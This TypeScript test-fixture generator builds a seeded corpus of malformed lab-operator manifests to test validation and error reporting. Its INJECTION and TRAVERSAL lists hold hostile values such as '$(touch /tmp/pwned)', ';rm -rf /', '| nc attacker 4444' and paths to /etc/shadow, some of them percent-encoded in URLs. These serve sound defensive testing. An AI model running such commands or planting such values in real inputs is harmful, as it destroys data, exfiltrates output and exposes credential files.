/**
 * A generated corpus of broken manifests, derived from the example lab (manifests/). The
 * base documents are the example objects with their defaults filled in and a few optional
 * fields set, so every string field of the three kinds has a value to break. Deterministic:
 * the same seed gives the same corpus.
 */
import { readFileSync } from "node:fs";
import { parseAllDocuments, stringify } from "yaml";
import { KIND_INFO, type Kind } from "../../src/api/index.js";

export const LAB_FILES = [
  "01-labmanager.yaml",
  "02-networks.yaml",
  "03-tripleo.yaml",
  "04-overcloud.yaml",
] as const;
export type LabFile = (typeof LAB_FILES)[number];

export type Doc = Record<string, unknown>;
type Path = (string | number)[];

/** What a case breaks, and what its error lines must say. */
export type Expect =
  /** A field: an error names the document's Kind/name and this field path (or one under it). */
  | { type: "field"; doc: number; kind?: string; name: string; path: string }
  /** YAML syntax: an error names the file, a document and a line number. */
  | { type: "yaml"; doc: number }
  /** Truncated or junk: no object of `doc` (0: of the whole file) is valid. */
  | { type: "broken"; doc: number };

export interface Case {
  id: string;
  file: LabFile;
  bytes: Buffer;
  expect: Expect;
  /** The broken value lands in kind, metadata.name or a key: echoed as written in the error. */
  echoedRaw: boolean;
  /** The object whose input breaks (Kind/name as in the good lab); unset: every object of the file. */
  victim?: string;
}

const victimOf = (doc: Doc | undefined) =>
  doc ? `${doc.kind as string}/${(doc.metadata as { name: string }).name}` : undefined;

/** mulberry32: small, seedable, good enough to pick cases. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const EXAMPLE_DIR = new URL("../../manifests/", import.meta.url);

/** Sets the fields the example leaves to defaults, so their validation is exercised too. */
function enrich(doc: Doc): Doc {
  const d = structuredClone(doc) as Doc & { kind: Kind; spec: Record<string, unknown> };
  const spec = d.spec as Record<string, Record<string, unknown>>;
  if (d.kind === "LabManager") {
    Object.assign(spec.ssh!, {
      port: 22,
      hostKeyFingerprint: `SHA256:${"A".repeat(43)}`,
      privateKeyRef: { file: "secrets/id_ed25519" },
    });
    spec.user!.passwordRef = { secretName: "manager-password", key: "password" };
    Object.assign(spec.virtualBMC!, { executable: "/usr/local/bin/vbmcd", openFirewall: true });
    spec.networkHook!.configFile = "/etc/lab-operator/network-hook.conf";
    Object.assign(d.spec, {
      osFamily: "auto",
      packages: ["tmux"],
      qemuBridgeAllow: ["public"],
      adopt: false,
    });
    d.spec.deletionPolicy = "Delete";
  }
  if (d.kind === "LibvirtNetwork" && d.spec.mode === "nat") {
    const ipv4 = spec.ipv4 as { dhcp: { hosts?: unknown[] } };
    ipv4.dhcp.hosts = [{ mac: "52:54:00:00:00:10", ip: "192.168.122.10", name: "tripleo" }];
    Object.assign(d.spec, {
      networkName: "hypervisor",
      dnsHosts: [{ ip: "192.168.122.10", hostnames: ["tripleo.localdomain"] }],
      autostart: true,
      updatePolicy: "Manual",
      adopt: false,
      driftPolicy: "repair",
      deletionPolicy: "Delete",
      resyncInterval: "5m",
    });
  }
  if (d.kind === "TripleOUndercloud") {
    const tripleo = spec.tripleo as Record<string, Record<string, unknown>>;
    tripleo.repositories!.packageUrl = "https://trunk.rdoproject.org/centos7/python2-tripleo-repos.rpm";
    Object.assign(tripleo.undercloudConf!, {
      ironic: { hardwareTypes: ["ipmi"], boot: ["pxe"], power: ["ipmitool"] },
      extra: { clean_nodes: "true", undercloud_admin_host: "192.168.24.3" },
    });
    Object.assign(tripleo, { profile: "centos-tripleo", utilities: ["vim"], upgrade: true });
    (spec.bmc as Record<string, unknown>).passwordRef = { file: "secrets/bmc-password" };
    (d.spec.nics as Record<string, unknown>[])[0]!.model = "virtio";
    spec.cloudInit!.disableAfterFirstBoot = true;
    spec.baseImage!.checksum = `sha256:${"0".repeat(64)}`;
    Object.assign(d.spec, {
      domainName: "tripleo",
      virtType: "auto",
      deletionPolicy: "Delete",
      adopt: false,
    });
  }
  return d;
}

/** The example lab as base documents, with the enriched fields; each must be valid. */
export function baseLab(): Record<LabFile, Doc[]> {
  const out = {} as Record<LabFile, Doc[]>;
  for (const file of LAB_FILES) {
    const text = readFileSync(new URL(file, EXAMPLE_DIR), "utf8");
    out[file] = parseAllDocuments(text).map((d) => {
      const doc = enrich(d.toJS() as Doc);
      KIND_INFO[doc.kind as Kind].schema.parse(doc);
      return doc;
    });
  }
  return out;
}

/** Block YAML, as people write it (the base files and the line-edit cases). */
export function renderFile(docs: Doc[]): string {
  return docs.map((d) => stringify(d, { lineWidth: 0 })).join("---\n");
}

/** Flow YAML (JSON is YAML): what tools emit, and fast to generate for thousands of cases. */
export function renderFlow(docs: Doc[]): string {
  return docs.map((d) => JSON.stringify(d)).join("\n---\n");
}

/**
 * Every node below the root: [path, value], parents before children. Of an array only the
 * first element is walked: the others have the same schema.
 */
export function walk(value: unknown, path: Path = []): [Path, unknown][] {
  const out: [Path, unknown][] = [];
  if (Array.isArray(value)) {
    if (value.length > 0) out.push([[...path, 0], value[0]], ...walk(value[0], [...path, 0]));
  } else if (value && typeof value === "object") {
    for (const [k, v] of Object.entries(value)) out.push([[...path, k], v], ...walk(v, [...path, k]));
  }
  return out;
}

export function formatPath(path: Path): string {
  return path.reduce<string>((s, p) => (typeof p === "number" ? `${s}[${p}]` : s ? `${s}.${p}` : p), "");
}

function setAt(doc: Doc, path: Path, value: unknown): Doc {
  const copy = structuredClone(doc);
  let node = copy as Record<string | number, unknown>;
  for (const part of path.slice(0, -1)) node = node[part] as Record<string | number, unknown>;
  node[path[path.length - 1]!] = value;
  return copy;
}

/** Shell metacharacters, newlines, quotes, NUL, XML and INI specials. */
export const INJECTION = [
  "$(touch /tmp/pwned)",
  "`touch /tmp/pwned`",
  ";rm -rf /",
  "\ninjected = 1",
  "\r\n[DEFAULT]",
  "'",
  '"',
  "\0",
  "&& touch /tmp/pwned",
  "| nc attacker 4444",
  "${IFS}cat${IFS}/etc/shadow",
  "<x/>&amp;",
  " ",
];
export const TRAVERSAL = ["../../etc/shadow", "/../../etc/shadow", "/..", "..", "a/../../../etc/shadow"];
/** Fields that take an absolute path by design; elsewhere an absolute path is refused. */
const ABSOLUTE_OK =
  /(configDir|logFile|executable|configFile|imagesDir|url|outputDir|containerImagesFile|file)$/;

function stringPayloads(path: string, good: string): string[] {
  const out: string[] = [];
  for (const p of INJECTION) out.push(p, good + p);
  // An undercloud.conf value is not a path: '..' in it is just text.
  if (!path.includes(".extra.")) for (const p of TRAVERSAL) out.push(p, `${good}/${p}`);
  if (!ABSOLUTE_OK.test(path) && !path.includes(".extra.")) out.push("/etc/shadow");
  out.push("x".repeat(100_000), good + "é");
  return out;
}

const WRONG_TYPES: Record<string, unknown[]> = {
  string: [42, true, { a: 1 }, ["x"], null],
  number: ["42", true, { a: 1 }, [1], null, 1e308, -1e308, 1.5, -1],
  boolean: ["true", 1, { a: 1 }, [true], null],
  object: ["x", 1, false, [{}], null],
  array: ["x", 1, false, { a: 1 }, null, Array.from({ length: 10_000 }, (_, i) => i)],
};

function typeOf(v: unknown): keyof typeof WRONG_TYPES {
  if (Array.isArray(v)) return "array";
  return (v === null ? "object" : typeof v) as keyof typeof WRONG_TYPES;
}

interface Target {
  file: LabFile;
  docs: Doc[];
  index: number;
}

function fieldCase(t: Target, path: Path, value: unknown, id: string): Case {
  const doc = setAt(t.docs[t.index]!, path, value);
  const docs = t.docs.map((d, i) => (i === t.index ? doc : d));
  const kind = typeof doc.kind === "string" ? doc.kind : undefined;
  const metadata = doc.metadata as { name?: unknown } | undefined;
  const name = typeof metadata?.name === "string" ? metadata.name : "?";
  const p = formatPath(path);
  const echoedRaw = p === "kind" || p === "metadata.name";
  return {
    id,
    file: t.file,
    bytes: Buffer.from(renderFlow(docs)),
    expect: { type: "field", doc: t.index + 1, kind, name, path: p },
    echoedRaw,
    victim: victimOf(t.docs[t.index]),
  };
}

/** String payloads and wrong types at every field path, sampled per field. */
function fieldCases(lab: Record<LabFile, Doc[]>, random: () => number, perField: number): Case[] {
  const cases: Case[] = [];
  for (const file of LAB_FILES) {
    lab[file].forEach((_, index) => {
      const t = { file, docs: lab[file], index };
      for (const [path, value] of walk(lab[file][index])) {
        const p = formatPath(path);
        // A foreign apiVersion is skipped, not an error: keep ours as the prefix.
        const options: unknown[] =
          typeof value !== "string"
            ? []
            : p === "apiVersion"
              ? INJECTION.map((s) => value + s)
              : stringPayloads(p, value);
        options.push(...WRONG_TYPES[typeOf(value)]!);
        for (const v of sample(options, perField, random)) {
          cases.push(fieldCase(t, path, v, `${file}:${index + 1} ${p} = ${preview(v)}`));
        }
      }
      // Unknown fields whose names carry a payload.
      for (const payload of INJECTION.slice(0, 4)) {
        const c = fieldCase(
          t,
          ["spec", `x${payload}`],
          1,
          `${file}:${index + 1} unknown key ${preview(payload)}`,
        );
        cases.push({ ...c, expect: { ...(c.expect as object), path: "spec" } as Expect, echoedRaw: true });
      }
    });
  }
  return cases;
}

/** `n` distinct items, always including the first. */
function sample<T>(items: T[], n: number, random: () => number): T[] {
  if (items.length <= n) return items;
  const picked = new Set<number>([0]);
  while (picked.size < n) picked.add(Math.floor(random() * items.length));
  return [...picked].sort((a, b) => a - b).map((i) => items[i]!);
}

function preview(v: unknown): string {
  const s = typeof v === "string" ? JSON.stringify(v) : Array.isArray(v) ? `array(${v.length})` : String(v);
  return s.length > 40 ? `${s.slice(0, 37)}...(${s.length})` : s;
}

/** A second declaration of every object: in the same file and in the next one. */
function duplicateCases(lab: Record<LabFile, Doc[]>): Case[] {
  const cases: Case[] = [];
  LAB_FILES.forEach((file, f) => {
    lab[file].forEach((doc, index) => {
      // The second declaration in load order is the one reported: same file, or a later one.
      const later = LAB_FILES[f + 1];
      const name = (doc.metadata as { name: string }).name;
      const targets: [LabFile, boolean][] = [[file, false]];
      if (later) targets.push([later, true]);
      for (const [target, changed] of targets) {
        const copy = changed ? setAt(doc, ["spec", "resyncInterval"], "1m") : doc;
        const docs = [...lab[target], copy];
        cases.push({
          id: `${file}:${index + 1} duplicated into ${target}${changed ? " (changed)" : ""}`,
          file: target,
          bytes: Buffer.from(renderFile(docs)),
          expect: { type: "field", doc: docs.length, kind: doc.kind as string, name, path: "metadata.name" },
          echoedRaw: false,
          victim: victimOf(doc),
        });
      }
    });
  });
  return cases;
}

/** Line edits that break YAML syntax: unclosed flow maps and quotes, tabs, duplicate keys. */
function yamlCases(lab: Record<LabFile, Doc[]>, random: () => number, perFile: number): Case[] {
  const cases: Case[] = [];
  for (const file of LAB_FILES) {
    const docs = lab[file].map((d) => stringify(d, { lineWidth: 0 }));
    const edits: [string, number, number, string][] = [];
    docs.forEach((text, d) => {
      text.split("\n").forEach((line, l) => {
        const m = /^( *)([A-Za-z]+): (.+)$/.exec(line);
        if (!m) return;
        const [, indent, key, value] = m as unknown as [string, string, string, string];
        edits.push([`unclosed flow map`, d, l, `${indent}${key}: {a: ${value}`]);
        edits.push([`unclosed flow sequence`, d, l, `${indent}${key}: [${value}`]);
        edits.push([`unclosed quote`, d, l, `${indent}${key}: "${value}`]);
        edits.push([`duplicate key`, d, l, `${line}\n${line}`]);
        if (indent) edits.push([`tab indentation`, d, l, `\t${line.slice(1)}`]);
      });
    });
    for (const [what, d, l, replacement] of sample(edits, perFile, random)) {
      const lines = docs[d]!.split("\n");
      lines[l] = replacement;
      const text = docs.map((t, i) => (i === d ? lines.join("\n") : t)).join("---\n");
      cases.push({
        id: `${file}:${d + 1} line ${l + 1}: ${what}`,
        file,
        bytes: Buffer.from(text),
        expect: { type: "yaml", doc: d + 1 },
        echoedRaw: false,
        victim: victimOf(lab[file][d]),
      });
    }
  }
  return cases;
}

/** The first document cut short before its required fields are complete. */
const REQUIRED_LAST: Record<LabFile, string> = {
  "01-labmanager.yaml": "  address: ",
  "02-networks.yaml": "  bridge: ",
  "03-tripleo.yaml": "  nics:",
  "04-overcloud.yaml": "  roles:",
};

function truncatedCases(lab: Record<LabFile, Doc[]>, random: () => number, perFile: number): Case[] {
  const cases: Case[] = [];
  for (const file of LAB_FILES) {
    const text = readFileSync(new URL(file, EXAMPLE_DIR), "utf8");
    const from = text.indexOf("\n", text.indexOf("\nkind:") + 1) + 1;
    const to = text.indexOf(REQUIRED_LAST[file]) + REQUIRED_LAST[file].length;
    for (let i = 0; i < perFile; i++) {
      const at = from + Math.floor(random() * (to - from));
      cases.push({
        id: `${file} truncated at byte ${at}`,
        file,
        bytes: Buffer.from(text.slice(0, at)),
        expect: { type: "broken", doc: 1 },
        echoedRaw: false,
        victim: victimOf(lab[file][0]),
      });
    }
  }
  return cases;
}

/** Binary junk: a whole file of it, or a burst of it inside the first document's header. */
function junkCases(lab: Record<LabFile, Doc[]>, random: () => number, perFile: number): Case[] {
  const cases: Case[] = [];
  const junk = (n: number) =>
    Buffer.from(Array.from({ length: n }, (_, i) => (i === 0 ? 0 : Math.floor(random() * 256))));
  for (const file of LAB_FILES) {
    const text = Buffer.from(readFileSync(new URL(file, EXAMPLE_DIR)));
    const header = text.indexOf("\nmetadata:") + 1;
    for (let i = 0; i < perFile; i++) {
      cases.push({
        id: `${file} replaced by junk #${i}`,
        file,
        bytes: junk(16 + Math.floor(random() * 4096)),
        expect: { type: "broken", doc: 0 },
        echoedRaw: false,
      });
      const burst = Buffer.concat([text.subarray(0, header), junk(8 + i), text.subarray(header)]);
      cases.push({
        id: `${file} junk before metadata #${i}`,
        file,
        bytes: burst,
        expect: { type: "broken", doc: 1 },
        echoedRaw: false,
        victim: victimOf(lab[file][0]),
      });
    }
  }
  return cases;
}

/**
 * Input every schema accepts that the lab as a whole must refuse (issue 15's cross-object
 * class): one field set per case, or a second object next to the first. The error names
 * the broken object's field; the victim keeps its last good spec.
 */
function crossCases(lab: Record<LabFile, Doc[]>): Case[] {
  const one = (file: LabFile, index: number, path: Path, value: unknown, expectPath = formatPath(path)) => {
    const c = fieldCase({ file, docs: lab[file], index }, path, value, "");
    return {
      ...c,
      id: `${file}:${index + 1} cross: ${formatPath(path)} = ${preview(value)}`,
      expect: { ...(c.expect as object), path: expectPath } as Expect,
    };
  };
  const M = "01-labmanager.yaml";
  const N = "02-networks.yaml";
  const T = "03-tripleo.yaml";
  const range = ["spec", "ipv4", "dhcp", "ranges"];
  const cases: Case[] = [
    one(M, 0, ["spec", "bridges", 1, "name"], "public"),
    one(M, 0, ["spec", "bridges", 1, "interfaces"], ["enp2s0"], "spec.bridges[1].interfaces[0]"),
    one(M, 0, ["spec", "bridges", 0, "interfaces"], ["enp2s0", "enp2s0"], "spec.bridges[0].interfaces[1]"),
    one(M, 0, ["spec", "qemuBridgeAllow"], ["public", "all"], "spec.qemuBridgeAllow[1]"),
    one(M, 0, ["spec", "address"], ":::::::"),
    one(M, 0, ["spec", "address"], "1:::2"),
    one(N, 0, ["spec", "ipv4", "address"], "10.0.2.254/16"),
    one(N, 0, [...range, 0, "start"], "192.168.122.1", "spec.ipv4.dhcp.ranges[0]"),
    one(N, 0, [...range, 0, "start"], "192.168.122.0", "spec.ipv4.dhcp.ranges[0]"),
    one(N, 0, [...range, 0, "end"], "192.168.122.255", "spec.ipv4.dhcp.ranges[0]"),
    one(
      N,
      0,
      range,
      [
        { start: "192.168.122.2", end: "192.168.122.100" },
        { start: "192.168.122.50", end: "192.168.122.254" },
      ],
      "spec.ipv4.dhcp.ranges[1]",
    ),
    one(N, 0, ["spec", "ipv4", "dhcp", "hosts", 0, "ip"], "192.168.122.1"),
    one(N, 0, ["spec", "ipv4", "dhcp", "hosts", 0, "ip"], "192.168.122.255"),
    one(N, 0, ["spec", "ipv6"], { address: ":::::::/64" }, "spec.ipv6.address"),
    one(T, 0, ["spec", "domainName"], "_tripleo"),
    ...[
      "https://cloud.centos.org/centos/7/images/%2e%2e/%2e%2e/etc/shadow",
      "https://cloud.centos.org/centos/7/images/%2E./x.qcow2",
      "file:///var/lib/libvirt/images/.%2e/x.qcow2",
      "https://cloud.centos.org/centos/7/images/%zz.qcow2",
      "https://cloud.centos.org/centos/7/images/x.qcow2%",
      "https://cloud.centos.org/centos/7/images/",
      "https://cloud.centos.org/centos/7/images/.",
      "https://cloud.centos.org",
      "/var/lib/libvirt/images/",
    ].map((url) => one(T, 0, ["spec", "baseImage", "url"], url)),
  ];
  // A second LabManager on the first one's host: both refused, the first keeps its last good spec.
  const manager = lab[M][0]!;
  const second = setAt(manager, ["metadata", "name"], "lab2");
  const docs = [...lab[M], second];
  cases.push({
    id: `${M}:2 cross: a second LabManager on the address and port of the first`,
    file: M,
    bytes: Buffer.from(renderFile(docs)),
    expect: { type: "field", doc: 2, kind: "LabManager", name: "lab2", path: "spec.address" },
    echoedRaw: false,
    victim: victimOf(manager),
  });
  return cases;
}

export interface Corpus {
  lab: Record<LabFile, Doc[]>;
  cases: Case[];
}

export function generateCorpus(seed = 20261125): Corpus {
  const random = prng(seed);
  const lab = baseLab();
  const cases = [
    ...fieldCases(lab, random, 5),
    ...duplicateCases(lab),
    ...crossCases(lab),
    ...yamlCases(lab, random, 30),
    ...truncatedCases(lab, random, 10),
    ...junkCases(lab, random, 6),
  ];
  // Previews of long payloads can coincide: number the ids.
  return { lab, cases: cases.map((c, i) => ({ ...c, id: `#${i} ${c.id}` })) };
}
